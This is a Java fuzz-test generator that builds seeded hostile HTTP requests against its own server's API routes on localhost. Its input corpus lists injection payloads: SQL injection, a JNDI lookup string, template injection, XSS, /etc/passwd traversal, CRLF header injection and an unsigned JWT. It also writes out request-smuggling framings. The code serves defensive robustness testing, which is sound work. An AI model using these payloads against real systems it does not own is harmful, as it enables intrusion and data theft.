package dev.instanode.server;

import java.io.ByteArrayOutputStream;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.SplittableRandom;
import java.util.UUID;

/**
 * Generates hostile HTTP/1.1 requests from a seed: every route, with values drawn from a corpus of
 * inputs that broke servers before (NUL, bidi overrides, lone surrogates, bad %-escapes, huge and
 * nested JSON, SQL and template injection, CRLF in headers, broken framing). The same seed always
 * gives the same requests, so a failure names the request that reproduces it.
 */
final class HostileRequests {
  /** What the generator can refer to: real tokens and keys, so requests get past auth. */
  record Known(
      String paidKey, String freeKey, String resourceToken, String upgradeJwt, String teamId) {}

  private static final List<String> ROUTES =
      List.of(
          "GET /livez",
          "GET /healthz",
          "GET /readyz",
          "GET /metrics",
          "GET /api/v1/capabilities",
          "POST /db/new",
          "POST /cache/new",
          "GET /claim/preview",
          "POST /claim",
          "GET /auth/me",
          "POST /api/v1/auth/api-keys",
          "GET /api/v1/auth/api-keys",
          "DELETE /api/v1/auth/api-keys/{id}",
          "GET /api/v1/whoami",
          "GET /api/v1/team",
          "PATCH /api/v1/team",
          "DELETE /api/v1/team",
          "GET /api/v1/team/members",
          "PATCH /api/v1/team/members/{id}",
          "DELETE /api/v1/team/members/{id}",
          "POST /api/v1/teams/{id}/invitations",
          "GET /api/v1/teams/{id}/invitations",
          "DELETE /api/v1/teams/{id}/invitations/{token}",
          "POST /api/v1/invitations/{token}/accept",
          "POST /auth/email/start",
          "POST /auth/email/verify",
          "GET /auth/email/verify",
          "GET /invitations/{token}",
          "POST /auth/logout",
          "POST /auth/cli",
          "POST /auth/cli/token",
          "POST /auth/cli/approve",
          "GET /auth/cli/verify",
          "POST /auth/cli/verify",
          "GET /api/v1/vault/{token}",
          "GET /api/v1/vault/{token}/{token}",
          "PUT /api/v1/vault/{token}/{token}",
          "DELETE /api/v1/vault/{token}/{token}",
          "GET /api/v1/audit",
          "GET /api/v1/audit.csv",
          "POST /storage/new",
          "POST /storage/{token}/presign",
          "GET /storage/{token}",
          "GET /api/v1/resources",
          "GET /api/v1/resources/{token}",
          "GET /api/v1/resources/{token}/credentials",
          "POST /api/v1/resources/{token}/rotate-credentials",
          "DELETE /api/v1/resources/{token}",
          "GET /api/me/resources",
          "POST /api/me/claim",
          "DELETE /api/me/resources/{token}",
          "GET /api/me/token",
          "POST /internal/teams/{id}/plan");

  private static final List<String> METHODS =
      List.of("GET", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "FOO", "get");

  /** Strings that have broken parsers, databases and log pipelines. */
  static final List<String> ATOMS =
      List.of(
          "",
          " ",
          "\u0000",
          "a\u0000b",
          "\u0001\u0002\u001b[31m",
          "\u202eyek-ipa",
          "\u2066x\u2069",
          "zero\u200bwidth",
          "\ud800",
          "\udfff\ud800",
          "😀👩‍💻",
          "ünïcödé",
          "x".repeat(65),
          "x".repeat(300),
          "y".repeat(5000),
          "' OR '1'='1",
          "\"; DROP TABLE resources; --",
          "${jndi:ldap://example.invalid/a}",
          "{{7*7}}",
          "<script>alert(1)</script>",
          "../../../../etc/passwd",
          "..;/",
          "%00",
          "%u2215",
          "%zz",
          "%",
          "%2e%2e%2f",
          "%c0%af",
          "\r\nX-Injected: 1",
          "\n",
          "null",
          "true",
          "-1",
          "0",
          "99999999999999999999999",
          "1e999",
          "NaN",
          "\\",
          "\"",
          "{}",
          "[]",
          "families",
          "00000000-0000-0000-0000-000000000000",
          "development",
          "Prod",
          "pro",
          "team",
          "a@b.c",
          "user@example.com\u0000",
          "ink_" + "A".repeat(43),
          "Bearer",
          "eyJhbGciOiJub25lIn0.eyJ0ZWFtIjoiYSJ9.");

  private static final List<String> FIELDS =
      List.of(
          "name",
          "env",
          "email",
          "token",
          "tokens",
          "team_name",
          "tier",
          "jwt",
          "extra",
          "role",
          "settings",
          "default_env",
          "value",
          "device_code",
          "user_code",
          "code",
          "link");

  private final SplittableRandom random;
  private final Known known;

  HostileRequests(long seed, Known known) {
    this.random = new SplittableRandom(seed);
    this.known = known;
  }

  /** One request, with a description for the failure message. */
  record Request(String description, byte[] bytes) {}

  Request next() {
    int framingRoll = random.nextInt(100);
    if (framingRoll < 4) {
      return framingAbuse();
    }
    String route = pick(ROUTES);
    String method =
        random.nextInt(10) == 0 ? pick(METHODS) : route.substring(0, route.indexOf(' '));
    String path = route.substring(route.indexOf(' ') + 1);
    path = path.replace("{token}", token()).replace("{id}", teamId());
    String query = query();
    StringBuilder head = new StringBuilder();
    head.append(method).append(' ').append(path).append(query).append(" HTTP/1.1\r\n");
    head.append("Host: 127.0.0.1\r\n");
    head.append("Connection: close\r\n");
    authorization().ifPresent(a -> head.append("Authorization: ").append(a).append("\r\n"));
    for (int i = random.nextInt(4); i > 0; i--) {
      head.append(header());
    }
    byte[] body = method.equals("GET") && random.nextInt(4) != 0 ? new byte[0] : body();
    if (body.length > 0 || random.nextBoolean()) {
      head.append("Content-Type: ").append(contentType()).append("\r\n");
    }
    head.append("Content-Length: ").append(body.length).append("\r\n\r\n");
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    out.writeBytes(head.toString().getBytes(StandardCharsets.UTF_8));
    out.writeBytes(body);
    String shown = head.length() > 300 ? head.substring(0, 300) + "…" : head.toString();
    String bodyShown = new String(body, StandardCharsets.UTF_8);
    if (bodyShown.length() > 200) {
      bodyShown = bodyShown.substring(0, 200) + "…";
    }
    return new Request(shown + bodyShown, out.toByteArray());
  }

  private String token() {
    return switch (random.nextInt(6)) {
      case 0 -> known.resourceToken();
      case 1 -> uuid();
      case 2 -> encoded(pick(ATOMS));
      case 3 -> pick(ATOMS).replace(" ", "%20").replace("\r", "").replace("\n", "");
      case 4 -> "families";
      default -> uuid().toUpperCase(java.util.Locale.ROOT);
    };
  }

  private String teamId() {
    return random.nextBoolean() ? known.teamId() : encoded(pick(ATOMS));
  }

  private String query() {
    if (random.nextInt(3) != 0) {
      return "";
    }
    StringBuilder q = new StringBuilder("?");
    for (int i = random.nextInt(1, 4); i > 0; i--) {
      String key = pick(List.of("env", "limit", "cursor", "t", "name", pick(ATOMS)));
      String value =
          switch (random.nextInt(4)) {
            case 0 -> encoded(pick(ATOMS));
            case 1 -> known.upgradeJwt();
            case 2 -> String.valueOf(random.nextInt(-5, 500));
            default -> pick(ATOMS).replace(" ", "+").replace("\r", "").replace("\n", "");
          };
      q.append(encoded(key)).append('=').append(value).append('&');
    }
    return q.substring(0, q.length() - 1);
  }

  private java.util.Optional<String> authorization() {
    return switch (random.nextInt(8)) {
      case 0, 1 -> java.util.Optional.empty();
      case 2, 3 -> java.util.Optional.of("Bearer " + known.paidKey());
      case 4 -> java.util.Optional.of("Bearer " + known.freeKey());
      case 5 -> java.util.Optional.of("Bearer " + known.upgradeJwt());
      case 6 -> java.util.Optional.of("Basic " + pick(ATOMS));
      default -> java.util.Optional.of("Bearer " + pick(ATOMS));
    };
  }

  private String header() {
    String name =
        pick(
            List.of(
                "Idempotency-Key",
                "X-Request-ID",
                "X-Forwarded-For",
                "Forwarded",
                "X-Instanode-Upgrade",
                "Accept",
                "Accept-Charset",
                "Content-Encoding",
                "Expect",
                "Transfer-Encoding",
                "X-Custom"));
    String value =
        switch (random.nextInt(5)) {
          case 0 -> uuid();
          case 1 -> known.upgradeJwt();
          case 2 -> "198.51.100." + random.nextInt(256) + ", " + pick(ATOMS);
          default -> pick(ATOMS);
        };
    if (name.equals("Transfer-Encoding") || name.equals("Expect")) {
      // Framing headers get their own cases; here they would only make the request hang.
      value = random.nextBoolean() ? "identity" : "nonsense";
      name = "X-" + name;
    }
    return name + ": " + value + "\r\n";
  }

  private String contentType() {
    return pick(
        List.of(
            "application/json",
            "application/json; charset=utf-8",
            "application/json; charset=ebcdic",
            "application/json; charset=\"==\"",
            "application/json;;;",
            "text/plain",
            "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=x",
            "application/json; charset=" + pick(ATOMS).replace("\r", "").replace("\n", ""),
            ""));
  }

  private byte[] body() {
    return switch (random.nextInt(10)) {
      case 0 -> bytes(pick(ATOMS));
      case 1 -> randomBytes();
      case 2 -> bytes("[".repeat(random.nextInt(10, 3000)));
      case 3 -> bytes("{\"name\":" + "[".repeat(600) + "]".repeat(600) + "}");
      case 4 ->
          bytes("{\"name\":\"x\",\"name\":\"y\",\"tokens\":[" + "\"a\",".repeat(500) + "\"b\"]}");
      case 5 -> bytes("{\"name\":\"" + pick(ATOMS).replace("\"", "") + "\"");
      default -> bytes(jsonObject());
    };
  }

  private String jsonObject() {
    StringBuilder json = new StringBuilder("{");
    for (int i = random.nextInt(0, 5); i > 0; i--) {
      json.append(jsonString(pick(FIELDS))).append(':').append(jsonValue(0)).append(',');
    }
    if (json.length() > 1) {
      json.setLength(json.length() - 1);
    }
    return json.append('}').toString();
  }

  private String jsonValue(int depth) {
    int roll = random.nextInt(depth > 2 ? 6 : 9);
    return switch (roll) {
      case 0 -> "null";
      case 1 -> random.nextBoolean() ? "true" : "false";
      case 2 -> String.valueOf(random.nextLong());
      case 3 -> "1e999";
      case 4 -> jsonString(known.upgradeJwt());
      case 5 -> jsonString(pick(ATOMS));
      case 6 -> "[" + jsonValue(depth + 1) + "," + jsonValue(depth + 1) + "]";
      case 7 -> "{\"a\":" + jsonValue(depth + 1) + "}";
      default -> jsonString(known.resourceToken());
    };
  }

  /** A JSON string literal; control characters and lone surrogates as \\u escapes. */
  private static String jsonString(String s) {
    StringBuilder out = new StringBuilder("\"");
    for (char c : s.toCharArray()) {
      if (c == '"' || c == '\\') {
        out.append('\\').append(c);
      } else if (c < 0x20 || Character.isSurrogate(c)) {
        out.append(String.format(java.util.Locale.ROOT, "\\u%04x", (int) c));
      } else {
        out.append(c);
      }
    }
    return out.append('"').toString();
  }

  private Request framingAbuse() {
    String bad =
        pick(
            List.of(
                "GET /livez HTTP/1.1\r\nHost: x\r\nX-A: a\u0000b\r\nConnection: close\r\n\r\n",
                "POST /db/new HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding:"
                    + " chunked\r\nConnection: close\r\n\r\n0\r\n\r\n",
                "POST /db/new HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\nContent-Type:"
                    + " application/json\r\nConnection: close\r\n\r\nzz\r\n{}\r\n0\r\n\r\n",
                "POST /db/new HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\nConnection: close\r\n\r\n",
                "POST /db/new HTTP/1.1\r\nHost: x\r\nContent-Length: 2\r\nContent-Type:"
                    + " application/json\r\nConnection: close\r\n\r\n{\"name\":\"x\"}",
                "GET /livez HTTP/9.9\r\nHost: x\r\nConnection: close\r\n\r\n",
                "GET /" + "a".repeat(20_000) + " HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
                "GET /livez HTTP/1.1\r\nHost: x\r\nX-Big: "
                    + "b".repeat(20_000)
                    + "\r\nConnection: close\r\n\r\n",
                "GET /livez HTTP/1.1\r\nConnection: close\r\n\r\n",
                "GET /api/v1/resources/\u00ff\u00fe HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
                "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
                "GET http://elsewhere/livez HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
                "GET /livez HTTP/1.1\r\nHost: x\r\nHost: y\r\nConnection: close\r\n\r\n",
                "G\u0001T /livez HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"));
    return new Request(
        bad.length() > 300 ? bad.substring(0, 300) + "…" : bad,
        bad.getBytes(StandardCharsets.ISO_8859_1));
  }

  private String encoded(String s) {
    StringBuilder out = new StringBuilder();
    for (byte b : s.getBytes(StandardCharsets.UTF_8)) {
      int c = b & 0xff;
      if ((c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') || c == '-') {
        out.append((char) c);
      } else {
        out.append('%').append(String.format(java.util.Locale.ROOT, "%02X", c));
      }
    }
    return out.toString();
  }

  private String uuid() {
    return new UUID(random.nextLong(), random.nextLong()).toString();
  }

  private byte[] randomBytes() {
    byte[] b = new byte[random.nextInt(1, 200)];
    random.nextBytes(b);
    return b;
  }

  private static byte[] bytes(String s) {
    return s.getBytes(StandardCharsets.UTF_8);
  }

  private <T> T pick(List<T> options) {
    return options.get(random.nextInt(options.size()));
  }
}
